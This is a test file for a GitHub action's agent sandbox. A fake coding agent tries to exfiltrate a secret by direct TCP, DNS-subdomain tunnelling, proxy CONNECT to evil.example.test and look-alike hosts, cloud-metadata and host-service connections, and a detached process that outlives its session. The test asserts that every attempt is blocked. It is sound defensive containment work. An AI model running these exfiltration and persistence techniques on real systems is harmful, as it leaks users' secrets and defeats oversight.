// The agent's network (DESIGN §6a "Network"), through the built action: a
// fake claude, run as the agent user in the run's namespace, tries every way
// out it can think of towards a test "internet" (its own namespace, with a
// listener and a DNS server that records every query), towards this host's
// services and through the proxy with names it may not use; a process it
// leaves behind tries again after the call. Nothing gets through, an allowed
// registry and its own loopback server still work, the refusals are shown on
// the tracking comment, in the job summary and in _signals.jsonl with the line
// that would allow them, and nothing the run made is left after it.
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { processGone, writeFakeCli } from '../helpers/fake-cli.js';
import { useFakeGitHub } from '../helpers/fake-github.js';
import { startInternet, type Internet } from '../helpers/internet.js';
import { checkout, labeledEvent, makeRemote, remoteFile, runBuiltAction, type ActionRun } from '../helpers/runner.js';

const github = useFakeGitHub({ Codertocat: 'admin' });
const SECRET = `s3cr3t${process.pid}`;

/** Every attempt, run at once; each result is `connected:<reply>`, `status:<code> <reply>`, `answered`, `timeout` or `error:<code>`. */
const ATTACKS = String.raw`
const net = require('node:net');
const dgram = require('node:dgram');
const dns = require('node:dns');
const http = require('node:http');
const cfg = JSON.parse(fs.readFileSync(path.join(dir, 'config.json'), 'utf8'));
const proxyUrl = new URL(process.env.HTTPS_PROXY || 'http://127.0.0.1:9');
const limit = (p, ms = 3000) => Promise.race([p, new Promise((r) => setTimeout(() => r('timeout'), ms))]);
const tcp = (host, port, payload) => limit(new Promise((resolve) => {
  const s = net.connect({ host, port });
  let got = '';
  s.on('connect', () => s.write(payload));
  s.on('data', (d) => { got += d; if (got.includes('\n')) { s.destroy(); resolve('connected:' + got.trim()); } });
  s.on('error', (e) => resolve('error:' + e.code));
}));
const connectVia = (target, payload) => limit(new Promise((resolve) => {
  const s = net.connect({ host: proxyUrl.hostname, port: Number(proxyUrl.port) });
  let got = '';
  let open = false;
  s.on('connect', () => s.write('CONNECT ' + target + ' HTTP/1.1\r\nHost: ' + target + '\r\n\r\n'));
  s.on('data', (d) => {
    got += d;
    if (!open && got.includes('\r\n\r\n')) {
      const status = got.split(' ')[1];
      if (status !== '200') { s.destroy(); return resolve('status:' + status + ' ' + got.split('\r\n\r\n')[1].trim()); }
      open = true; got = ''; s.write(payload + '\n');
    } else if (open && got.includes('\n')) { s.destroy(); resolve('connected:' + got.trim()); }
  });
  s.on('error', (e) => resolve('error:' + e.code));
}));
const absolute = (url) => limit(new Promise((resolve) => {
  const req = http.request({ host: proxyUrl.hostname, port: Number(proxyUrl.port), path: url, headers: { host: new URL(url).host } }, (res) => {
    let body = ''; res.on('data', (d) => (body += d)); res.on('end', () => resolve('status:' + res.statusCode + ' ' + body.trim()));
  });
  req.on('error', (e) => resolve('error:' + e.code));
  req.end();
}));
const query = (name) => {
  const labels = name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)]));
  return Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, 1, 0, 1])]);
};
const udp = (server, name) => limit(new Promise((resolve) => {
  const s = dgram.createSocket(server.includes(':') ? 'udp6' : 'udp4');
  s.on('message', () => { s.close(); resolve('answered'); });
  s.on('error', (e) => { try { s.close(); } catch {} resolve('error:' + e.code); });
  s.send(query(name), 53, server, (e) => { if (e) { try { s.close(); } catch {} resolve('error:' + e.code); } });
}), 2500);
const loopback = (host) => limit(new Promise((resolve) => {
  const server = http.createServer((q, a) => a.end('loop-ok')).listen(0, host, () => {
    http.get({ host, port: server.address().port, path: '/' }, (res) => {
      let body = ''; res.on('data', (d) => (body += d)); res.on('end', () => { server.close(); resolve(body); });
    }).on('error', (e) => resolve('error:' + e.code));
  });
  server.on('error', (e) => resolve('error:' + e.code));
}));
const resolvers = fs.readFileSync('/etc/resolv.conf', 'utf8').split('\n').map((l) => /^nameserver\s+(\S+)/.exec(l)).filter(Boolean).map((m) => m[1]);
async function attack() {
  const s = cfg.secret;
  const tries = {
    direct4: tcp(cfg.v4, 443, 'EXFIL-direct4-' + s + '\n'),
    direct6: tcp(cfg.v6, 443, 'EXFIL-direct6-' + s + '\n'),
    direct80: tcp(cfg.v4, 80, 'EXFIL-direct80-' + s + '\n'),
    dnsLookup: limit(dns.promises.lookup('exfil-lookup-' + s + '.example.test').then((a) => 'answered', (e) => 'error:' + e.code)),
    dnsConfigured: udp(cfg.dnsIp, 'exfil-configured-' + s + '.example.test'),
    dnsConfiguredTcp: tcp(cfg.dnsIp, 53, 'EXFIL-dnstcp-' + s + '\n'),
    dnsFixed1: udp('1.1.1.1', 'exfil-fixed-' + s + '.example.test'),
    dnsFixed6: udp('2001:4860:4860::8888', 'exfil-fixed6-' + s + '.example.test'),
    dnsResolvConf: Promise.all(resolvers.map((r) => udp(r, 'exfil-resolvconf-' + s + '.example.test'))).then((all) => all.join(',') || 'error:none'),
    notListed: connectVia('evil.example.test:443', 'EXFIL-notlisted-' + s),
    ipLiteral: connectVia(cfg.v4 + ':443', 'EXFIL-ip-' + s),
    ipLiteral6: connectVia('[' + cfg.v6 + ']:443', 'EXFIL-ip6-' + s),
    lookAlike: connectVia('registry.npmjs.org.evil.example.test:443', 'EXFIL-lookalike-' + s),
    lookAlike2: connectVia('registry-npmjs.org:443', 'EXFIL-lookalike2-' + s),
    oddPort: connectVia('registry.npmjs.org:8443', 'EXFIL-port-' + s),
    private: connectVia('private.allowed.test:443', 'EXFIL-private-' + s),
    loopbackName: connectVia('loopback.allowed.test:443', 'EXFIL-loopback-' + s),
    metadata: connectVia('metadata.allowed.test:80', 'EXFIL-metadata-' + s),
    mixed: connectVia('mixed.allowed.test:443', 'EXFIL-mixed-' + s),
    absoluteNotListed: absolute('http://evil.example.test/EXFIL-absolute-' + s),
    hostService: tcp(process.env.SAMOCODE_HOST_ADDRESS || '0.0.0.0', cfg.hostPort, 'EXFIL-host-' + s + '\n'),
    registry: connectVia('registry.npmjs.org:443', 'npm-hello'),
    registryHttp: absolute('http://registry.npmjs.org/some-package'),
    loopback4: loopback('127.0.0.1'),
    loopback6: loopback('::1'),
  };
  const results = {};
  for (const [k, p] of Object.entries(tries)) results[k] = await p;
  return results;
}
`;

/** A second program, started with setsid, that tries again after the call has ended. */
const LATE = String.raw`
const net = require('node:net');
const fs = require('node:fs');
const [v4, proxy, file, secret, cli] = process.argv.slice(2);
fs.writeFileSync(file + '.pid', String(process.pid));
const alive = () => { try { process.kill(Number(cli), 0); return true; } catch { return false; } };
const wait = setInterval(() => { if (!alive()) { clearInterval(wait); setTimeout(tryAgain, 500); } }, 100);
function tryAgain() {
  const u = new URL(proxy);
  const a = net.connect({ host: v4, port: 443 }, () => a.write('EXFIL-late-direct-' + secret + '\n'));
  a.on('error', () => {});
  const b = net.connect({ host: u.hostname, port: Number(u.port) }, () => b.write('CONNECT evil.example.test:443 HTTP/1.1\r\n\r\nEXFIL-late-' + secret + '\n'));
  b.on('error', () => {});
  setTimeout(() => fs.writeFileSync(file, 'tried'), 1000);
}
`;

function agentBody(): string {
  return `${ATTACKS}
const phase = process.env.SAMOCODE_PHASE;
const session = process.env.SAMOCODE_SESSION_PATH;
const mode = fs.readFileSync('mode.txt', 'utf8').trim();
const next = { init: 'investigation', investigation: 'requirements', requirements: 'planning', planning: 'implementation', implementation: 'testing', testing: 'done' }[phase];
(async () => {
  if (call === 1) {
    fs.writeFileSync(path.join(dir, 'agent.json'), JSON.stringify({ uid: process.getuid(), user: process.env.USER, pid: process.pid, env: Object.fromEntries(['HTTPS_PROXY', 'HTTP_PROXY', 'https_proxy', 'http_proxy', 'NO_PROXY', 'NODE_USE_ENV_PROXY', 'SAMOCODE_HOST_ADDRESS'].map((k) => [k, process.env[k] ?? null])) }));
    fs.writeFileSync(path.join(dir, 'late.cjs'), ${JSON.stringify(LATE)});
    require('node:child_process').execFileSync('/bin/sh', ['-c', 'setsid ' + process.execPath + ' "$@" >/dev/null 2>&1 &', 'sh', path.join(dir, 'late.cjs'), cfg.v4, process.env.HTTPS_PROXY || 'http://127.0.0.1:9', path.join(dir, 'late.txt'), cfg.secret, String(process.pid)]);
    for (const k of ['HTTPS_PROXY', 'HTTP_PROXY', 'https_proxy', 'http_proxy']) delete process.env[k];
    fs.writeFileSync(path.join(dir, 'results.json'), JSON.stringify(await attack(), null, 1));
    if (mode === 'sleep') { fs.writeFileSync(path.join(dir, 'sleeping'), ''); await new Promise((r) => setTimeout(r, 300_000)); }
  }
  let signal;
  if (mode === 'block') signal = { status: 'blocked', phase, reason: 'stopped on purpose' };
  else if (phase === 'done') signal = { status: 'done', phase: 'done', summary: 'done' };
  else signal = { status: 'continue', phase: next };
  fs.writeFileSync(path.join(session, phase === 'planning' ? 'plan.md' : 'notes-' + phase + '.md'), '# ' + phase + '\\n');
  fs.writeFileSync(path.join(session, '_signal.json'), JSON.stringify(signal));
  emit({ type: 'result', subtype: 'success', is_error: false, total_cost_usd: 0.01, num_turns: 1, result: 'ok' });
  // A lookup the system resolver still works on would keep node running.
  process.exit(0);
})();
`;
}

let internet: Internet;
let hostService: net.Server;
const hostHits: string[] = [];

beforeAll(async () => {
  internet = await startInternet((self) => ({
    'registry.npmjs.org': { v4: self.v4, v6: self.v6 },
    'evil.example.test': { v4: self.v4 },
    'private.allowed.test': { v4: '10.1.2.3' },
    'loopback.allowed.test': { v4: '127.0.0.1' },
    'metadata.allowed.test': { v4: '169.254.169.254' },
    'mixed.allowed.test': { v4: self.v4, v6: '::1' },
  }));
  hostService = net.createServer((socket) => {
    socket.on('data', (d) => hostHits.push(d.toString()));
    socket.on('error', () => {});
  });
  await new Promise<void>((r) => hostService.listen(0, '0.0.0.0', () => r()));
}, 30_000);

afterAll(() => {
  internet?.stop();
  hostService?.close();
});

/**
 * What the run made: the user, the namespace, the link, the rule chains and
 * the agent's processes, found again after it. Other test runs on this machine
 * make agent users too, and a freed uid is another run's at once: the agent's
 * processes are found by where they were started from, not by uid.
 */
function leftovers(run: ActionRun, agent: { uid: number; user: string; pid: number }, cliDir: string): string[] {
  const left: string[] = [];
  const ns = /namespace (samocode-([0-9a-f]{6}))/.exec(run.stdout);
  if (!ns) return ['no namespace named in the log'];
  if (execFileSync('ip', ['netns', 'list'], { encoding: 'utf8' }).includes(ns[1]!)) left.push(`namespace ${ns[1]}`);
  for (const table of ['iptables', 'ip6tables']) {
    const rules = execFileSync(table, ['-w', '-S'], { encoding: 'utf8' });
    if (rules.includes(`SC-${ns[2]}-`)) left.push(`${table} chain SC-${ns[2]}`);
  }
  if (execFileSync('ip', ['-o', 'link', 'show'], { encoding: 'utf8' }).includes(`sc${ns[2]}h`)) left.push(`link sc${ns[2]}h`);
  if (readFileSync('/etc/passwd', 'utf8').split('\n').some((line) => line.split(':')[0] === agent.user)) left.push(`user ${agent.user}`);
  // Every process of this run's agent was started from the fake's folder (the CLI, the program it left behind).
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    try {
      const status = readFileSync(`/proc/${pid}/status`, 'utf8');
      if (/^State:\s+Z/m.test(status)) continue;
      if (readFileSync(`/proc/${pid}/cmdline`, 'latin1').includes(cliDir)) left.push(`process ${pid} (uid ${/^Uid:\s+(\d+)/m.exec(status)?.[1]})`);
    } catch {
      // gone meanwhile
    }
  }
  return left;
}

async function start(issue: number, mode: 'done' | 'block' | 'sleep', options: { env?: Record<string, string>; signal?: boolean; inputs?: Record<string, string> } = {}) {
  github.addIssue({ number: issue, title: `Network ${mode}`, body: 'Send the code somewhere.', labels: ['samocode'] });
  const cli = await writeFakeCli('claude', agentBody());
  configure(cli.dir);
  const remote = makeRemote({ 'README.md': '# x\n', 'mode.txt': `${mode}\n` });
  const workspace = checkout(remote);
  const run = await runBuiltAction({
    apiUrl: github.url,
    snapshotFrom: github,
    workspace,
    event: 'issues',
    payload: labeledEvent(issue),
    inputs: {
      provider: 'claude',
      'cli-path': cli.path,
      'auto-approve': 'true',
      'allowed-domains': 'private.allowed.test, loopback.allowed.test metadata.allowed.test:80 mixed.allowed.test',
      ...options.inputs,
    },
    env: { SAMOCODE_PROXY_DNS: internet.dns, ...options.env },
    timeoutMs: 120_000,
    ...(options.signal ? { signalWhen: { when: () => existsSync(`${cli.dir}/sleeping`), signal: 'SIGTERM' as const } } : {}),
  });
  const agent = existsSync(`${cli.dir}/agent.json`) ? (JSON.parse(readFileSync(`${cli.dir}/agent.json`, 'utf8')) as { uid: number; user: string; pid: number; env: Record<string, string | null> }) : undefined;
  const late = existsSync(`${cli.dir}/late.txt.pid`) ? [Number(readFileSync(`${cli.dir}/late.txt.pid`, 'utf8'))] : [];
  return { run, cli, remote, workspace, agent, late };
}

function configure(dir: string): void {
  writeFileSync(`${dir}/config.json`, JSON.stringify({ v4: internet.v4, v6: internet.v6, dnsIp: internet.v4, secret: SECRET, hostPort: (hostService.address() as net.AddressInfo).port }));
}

describe("the agent's network: nothing gets out but through the allow-list", () => {
  it('a whole session: every way out is closed, the registry and loopback work, refusals are shown, nothing is left', async () => {
    const { run, cli, remote, agent: seenAgent, late } = await start(401, 'done');
    expect(run.outputs.status, run.stdout.slice(-3000)).toBe('done');
    const agent = seenAgent!;
    expect(agent.uid).not.toBe(0);
    expect(agent.env.HTTPS_PROXY).toMatch(/^http:\/\/100\.\d+\.\d+\.\d+:\d+$/);
    expect(agent.env.https_proxy).toBe(agent.env.HTTPS_PROXY);
    expect(agent.env.HTTP_PROXY).toBe(agent.env.HTTPS_PROXY);
    expect(agent.env.NODE_USE_ENV_PROXY).toBe('1');
    expect(agent.env.NO_PROXY).toContain('localhost');

    const results = JSON.parse(readFileSync(`${cli.dir}/results.json`, 'utf8')) as Record<string, string>;
    // Direct connects, with the proxy variables unset.
    for (const key of ['direct4', 'direct6', 'direct80', 'dnsConfiguredTcp', 'hostService']) expect(results[key], key).toMatch(/^(error:|timeout)/);
    // DNS, to the configured resolver (the one the proxy uses), to fixed addresses, to the system's.
    for (const key of ['dnsLookup', 'dnsConfigured', 'dnsFixed1', 'dnsFixed6']) expect(results[key], key).toMatch(/^(error:|timeout)/);
    for (const each of results.dnsResolvConf!.split(',')) expect(each, 'dnsResolvConf').toMatch(/^(error:|timeout)/);
    // Through the proxy with what it may not use.
    for (const key of ['notListed', 'ipLiteral', 'ipLiteral6', 'lookAlike', 'lookAlike2', 'oddPort', 'private', 'loopbackName', 'metadata', 'mixed', 'absoluteNotListed']) {
      expect(results[key], key).toMatch(/^status:403 /);
    }
    // What is allowed works.
    expect(results.registry).toBe('connected:internet-ok');
    expect(results.registryHttp).toBe('status:200 internet-ok');
    expect(results.loopback4).toBe('loop-ok');
    expect(results.loopback6).toBe('loop-ok');

    // The process left behind tried after the call: it was ended before it could.
    const latePid = Number(readFileSync(`${cli.dir}/late.txt.pid`, 'utf8'));
    expect(await processGone(latePid)).toBe(true);
    await new Promise((r) => setTimeout(r, 3_000));
    expect(existsSync(`${cli.dir}/late.txt`)).toBe(false);

    // Nothing reached the internet but the allowed calls; no query carried data; the refused names were not even resolved.
    const seen = internet.connections();
    expect(seen.map((c) => c.data).join('\n')).not.toContain('EXFIL');
    expect(seen.some((c) => c.data.includes('npm-hello'))).toBe(true);
    expect(seen.some((c) => c.data.startsWith('GET /some-package HTTP/1.1'))).toBe(true);
    const queries = internet.queries();
    expect(queries.filter((q) => q.toLowerCase().includes('exfil'))).toEqual([]);
    expect(queries).not.toContain('evil.example.test');
    expect(queries).toContain('registry.npmjs.org');
    expect(queries).toContain('private.allowed.test');
    expect(hostHits.join('')).not.toContain('EXFIL');

    // Shown, with the line that would allow it: job summary, tracking comment, _signals.jsonl.
    expect(run.summary).toContain('`evil.example.test:443`');
    expect(run.summary).toContain('`allowed-domains: evil.example.test`');
    expect(run.summary).toContain('`registry.npmjs.org:8443`');
    expect(run.summary).toContain('`allowed-domains: registry.npmjs.org:8443`');
    expect(run.summary).toMatch(/`private\.allowed\.test:443` ×1: resolves to 10\.1\.2\.3 is in 10\.0\.0\.0\/8/);
    expect(run.summary).toContain('**Agent network:** restricted');
    const tracking = github.issues.get(401)!.comments.find((c) => c.body.includes('samocode:tracking'))!;
    expect(tracking.body).toContain("The agent's network refused");
    expect(tracking.body).toContain('`allowed-domains: evil.example.test`');
    const history = remoteFile(remote, run.outputs.branch!, `.samocode/sessions/${run.outputs.session}/_signals.jsonl`);
    const first = JSON.parse(history.split('\n')[0]!) as { refused?: { host: string; port: number; allow: string; count: number }[] };
    expect(first.refused).toEqual(expect.arrayContaining([expect.objectContaining({ host: 'evil.example.test', port: 443, allow: 'allowed-domains: evil.example.test', count: 1 })]));

    expect(leftovers(run, agent, cli.dir)).toEqual([]);
  }, 150_000);

  it.each([
    [402, 'block', 'a blocked run'],
    [403, 'sleep', 'a run stopped by SIGTERM while the agent works'],
  ] as const)('#%i: %s leaves nothing behind either', async (issue, mode, _what) => {
    const { run, agent, cli, late } = await start(issue, mode, { signal: mode === 'sleep' });
    const results = JSON.parse(readFileSync(`${cli.dir}/results.json`, 'utf8')) as Record<string, string>;
    expect(results.notListed).toMatch(/^status:403 /);
    expect(results.direct4).toMatch(/^(error:|timeout)/);
    expect(run.outputs.status, run.stdout.slice(-3000)).toBe('blocked');
    if (mode === 'sleep') expect(run.signalledAt).toBeDefined();
    expect(agent?.uid).toBeGreaterThan(0);
    expect(leftovers(run, agent!, cli.dir)).toEqual([]);
    expect(run.summary).toContain('`allowed-domains: evil.example.test`');
  }, 150_000);

  it('#404: agent-network open is the runner\'s network, unfiltered, and the run says so (the test internet is reachable at all)', async () => {
    const { run, cli, agent } = await start(404, 'block', { inputs: { 'agent-network': 'open' } });
    expect(run.outputs.status, run.stdout.slice(-4000)).toBe('blocked');
    const results = JSON.parse(readFileSync(`${cli.dir}/results.json`, 'utf8')) as Record<string, string>;
    expect(results.direct4).toBe('connected:internet-ok');
    expect(agent!.env.HTTPS_PROXY).toBeNull();
    expect(run.summary).toContain("**Agent network:** open: the runner's network, not filtered");
    expect(internet.connections().some((c) => c.data.includes(`EXFIL-direct4-${SECRET}`))).toBe(true);
  }, 120_000);

  it('#405: agent-network none: only its own loopback; no proxy, nothing out', async () => {
    const before = internet.connections().length;
    const { run, cli, agent, late } = await start(405, 'block', { inputs: { 'agent-network': 'none' } });
    expect(run.outputs.status).toBe('blocked');
    const results = JSON.parse(readFileSync(`${cli.dir}/results.json`, 'utf8')) as Record<string, string>;
    expect(agent!.env.HTTPS_PROXY).toBeNull();
    for (const key of ['direct4', 'direct6', 'dnsConfigured', 'dnsFixed1', 'registry', 'hostService']) expect(results[key], key).toMatch(/^(error:|timeout)/);
    expect(results.loopback4).toBe('loop-ok');
    expect(internet.connections().slice(before)).toEqual([]);
    expect(run.summary).toContain('**Agent network:** none: its own loopback only');
    expect(leftovers(run, agent!, cli.dir)).toEqual([]);
  }, 120_000);

  it('#406: restricted where the agent cannot be isolated (agent-user none) fails closed and says what to set', async () => {
    const { run, cli } = await start(406, 'block', { inputs: { 'agent-user': 'none' } });
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('agent-network: restricted cannot be enforced on this runner');
    expect(run.stdout).toContain('agent-network: open');
    expect(existsSync(`${cli.dir}/results.json`)).toBe(false);
    const notice = github.issues.get(406)!.comments.find((c) => c.body.includes('agent-network: restricted cannot be enforced'));
    expect(notice).toBeDefined();
  }, 120_000);

  it.each([
    [407, { 'agent-network': 'filtered' }, 'input agent-network must be restricted, open or none, got "filtered"'],
    [408, { 'allowed-domains': 'example.test 10.0.0.5' }, 'allowed-domains: "10.0.0.5" is not a name or *.suffix pattern'],
  ])('#%i: a bad input is a clear error before anything runs', async (issue, inputs, message) => {
    const { run, cli } = await start(issue, 'block', { inputs });
    expect(run.code).toBe(1);
    expect(run.stdout).toContain(message);
    expect(existsSync(`${cli.dir}/results.json`)).toBe(false);
  }, 60_000);
});

